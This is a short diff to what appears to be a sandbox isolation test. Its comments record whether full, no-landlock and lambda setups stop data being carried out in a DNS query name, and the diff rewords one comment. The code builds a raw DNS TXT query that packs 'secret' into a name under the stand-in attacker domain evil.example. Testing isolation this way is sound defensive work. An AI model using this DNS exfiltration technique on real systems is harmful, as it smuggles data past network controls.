@@ -1,7 +1,7 @@
 # tries: carry data out in the name of a DNS question
 # full: stopped
 # no-landlock: stopped
-# lambda: open: what a name could carry out is the same user's data; the firewall of the VPC's resolver
+# lambda: open: a DNS firewall that answers for our buckets alone
 
 import json, socket, struct
 question = struct.pack("!6H", 1, 256, 1, 0, 0, 0) + b"\x06secret\x04evil\x07example\x00" + struct.pack("!2H", 16, 1)
